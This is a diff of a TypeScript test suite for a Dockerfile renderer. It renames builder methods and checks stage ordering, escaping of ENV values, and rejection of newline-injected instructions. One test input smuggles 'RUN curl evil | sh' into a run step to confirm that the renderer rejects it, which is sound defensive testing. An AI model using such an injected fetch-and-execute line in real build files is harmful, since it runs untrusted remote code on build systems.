@@ -6,12 +6,12 @@ import { renderDockerfile } from '../../lib/synth/render-dockerfile';
 describe('renderDockerfile (Image.fromBuildSteps)', () => {
   it('renders a multi-stage build in order, exec forms as JSON', () => {
     const rendered = renderDockerfile([
-      BuildStage.from('debian:bookworm-slim', { stageName: 'build' })
+      BuildStage.fromImage('debian:bookworm-slim', { stageName: 'build' })
         .arg('VERSION', '1.0')
         .workdir('/src')
-        .copy(['requirements.txt'], './')
+        .copyFiles(['requirements.txt'], './')
         .run('make all'),
-      BuildStage.from('busybox:1.36')
+      BuildStage.fromImage('busybox:1.36')
         .copyFromStage('build', ['/src/out'], '/app', { chown: 'app:app' })
         .env('MODE', 'production')
         .label('org.example.team', 'platform')
@@ -45,13 +45,13 @@ describe('renderDockerfile (Image.fromBuildSteps)', () => {
   });
 
   it('escapes quotes, backslashes and $ in ENV values so nothing expands', () => {
-    const rendered = renderDockerfile([BuildStage.from('busybox').env('X', 'a"b\\c$HOME `id`')], 'stages');
+    const rendered = renderDockerfile([BuildStage.fromImage('busybox').env('X', 'a"b\\c$HOME `id`')], 'stages');
     assert.match(rendered.text, /^ENV X="a\\"b\\\\c\\\$HOME `id`"$/m);
   });
 
   it('rejects values that would start a second instruction', () => {
     const rendered = renderDockerfile([
-      BuildStage.from('busybox').run('echo hi\nRUN curl evil | sh').label('a', 'x\ny').workdir('/a\n/b'),
+      BuildStage.fromImage('busybox').run('echo hi\nRUN curl evil | sh').label('a', 'x\ny').workdir('/a\n/b'),
     ], 'stages');
     assert.deepEqual(rendered.problems, [
       'stages[0].steps[0] (run): the command must be one non-empty line (chain steps with && or use several run steps)',
@@ -61,9 +61,9 @@ describe('renderDockerfile (Image.fromBuildSteps)', () => {
   });
 
   it('FROM may name an earlier stage but not a later or unknown one', () => {
-    assert.deepEqual(renderDockerfile([BuildStage.from('busybox', { stageName: 'base' }), BuildStage.from('base')], 's').problems, []);
-    assert.deepEqual(renderDockerfile([BuildStage.from('Not An Image'), BuildStage.from('busybox', { stageName: 'later' })], 's').problems, [
-      's[0].base: "Not An Image" is neither an image reference nor an earlier stage',
+    assert.deepEqual(renderDockerfile([BuildStage.fromImage('busybox', { stageName: 'base' }), BuildStage.fromImage('base')], 's').problems, []);
+    assert.deepEqual(renderDockerfile([BuildStage.fromImage('Not An Image'), BuildStage.fromImage('busybox', { stageName: 'later' })], 's').problems, [
+      's[0].baseImage: "Not An Image" is neither an image reference nor an earlier stage',
     ]);
   });
 });
